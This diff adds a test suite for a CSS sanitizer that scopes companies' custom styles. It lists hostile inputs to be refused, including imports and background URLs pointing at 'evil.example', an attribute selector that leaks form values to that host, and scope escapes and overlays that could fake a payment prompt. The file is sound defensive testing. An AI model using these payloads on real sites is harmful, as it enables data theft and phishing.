@@ -1,0 +1,78 @@
+import fc from 'fast-check'
+import { parse, walk } from 'css-tree'
+import { describe, expect, it } from 'vitest'
+import { STYLE_SCOPE, checkStyle } from '../../src/relations/companies/style.rules.ts'
+
+describe('the style of a company', () => {
+  it('is limited to the content of the page, every selector of it', () => {
+    expect(
+      checkStyle('h1, .btn:hover > b { color: #123456 } @media print { :is(body, html) { color: red } }').css,
+    ).toBe('.own-style h1,.own-style .btn:hover>b{color:#123456}@media print{.own-style :is(body,html){color:red}}')
+  })
+
+  it.each([
+    ['loads a style sheet', '@import "//evil.example/x.css"; a { color: red }'],
+    ['loads a font', '@font-face { font-family: x; src: url(x) }'],
+    ['loads a picture', 'a { background: url(//evil.example/?x) }'],
+    ['loads a picture in capitals', 'a { background-image: URL("x") }'],
+    ['loads a picture by an escape', String.raw`a { background-image: \75rl(x) }`],
+    ['loads one of several pictures', 'a { background-image: image-set("x" 1x) }'],
+    ['loads a picture through a variable', 'a { --x: url(y); color: red }'],
+    ['reads a form by its values', 'input[value^="a"] { background: url(//evil.example/a) }'],
+    ['covers the page', 'a { position: fixed }'],
+    ['hides something', 'a { display: none }'],
+    ['moves something away', 'a { margin: -400px }'],
+    ['moves something away through a variable', 'a { --m: -400px; margin: var(--m) }'],
+    ['makes giant letters', 'a { font-size: 900px }'],
+    ['computes a size', 'a { margin: calc(-1 * 40px) }'],
+    ['adds text', 'a::before { content: "Betaal hier" }'],
+    ['reaches beside its scope', '~ nav { color: red }'],
+    ['reaches around its scope', '&, & + nav { color: red }'],
+    ['nests a rule', 'a { body & { color: red } }'],
+    ['closes the scope', '} body { color: red'],
+    ['hides in a comment of HTML', '<!-- body { color: red } -->'],
+    ['animates', '@keyframes x { from { color: red } }'],
+    ['means nothing', 'a { color: rood }'],
+  ])('that %s is refused', (_what, css) => {
+    const checked = checkStyle(css)
+    expect(checked.problems.length).toBeGreaterThan(0)
+    expect(checked.css).toBe('')
+  })
+
+  it('tells in which line the mistake is', () => {
+    expect(checkStyle('a { color: red }\n\nb { position: fixed }').problems).toEqual([
+      'Regel 3: position is niet toegestaan.',
+    ])
+  })
+
+  it('never lets anything else through, whatever is typed', () => {
+    const piece = fc.constantFrom(
+      ...'a { } : ; color red url( ) @import @media print "x" & + > , .b #c -9px /* */ \\ ! * ~ var(--x) --x ::after'.split(
+        ' ',
+      ),
+      ' ',
+      '\n',
+    )
+    fc.assert(
+      fc.property(fc.array(piece, { maxLength: 40 }), (pieces) => {
+        const { css, problems } = checkStyle(pieces.join(' '))
+        if (problems.length > 0) return css === ''
+        let sound = true
+        walk(parse(css, { parseCustomProperty: true }), (node) => {
+          if (node.type === 'Url' || node.type === 'Raw') sound = false
+          if (node.type === 'Atrule' && node.name !== 'media') sound = false
+          if (node.type === 'Rule' && node.prelude.type === 'SelectorList')
+            for (const selector of node.prelude.children)
+              if (
+                selector.type !== 'Selector' ||
+                selector.children.first?.type !== 'ClassSelector' ||
+                selector.children.first.name !== STYLE_SCOPE
+              )
+                sound = false
+        })
+        return sound
+      }),
+      { numRuns: 3000 },
+    )
+  })
+})
